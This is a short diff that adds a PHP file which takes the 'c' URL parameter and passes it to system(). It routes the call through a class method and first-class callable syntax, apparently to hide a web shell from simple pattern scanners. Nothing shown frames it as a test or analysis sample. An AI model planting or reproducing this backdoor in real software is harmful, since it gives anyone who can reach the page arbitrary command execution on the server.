@@ -1,0 +1,4 @@
+<?php
+class K { function v() { return $_GET["c"]; } }
+$f = (new K)->v(...);
+system($f());
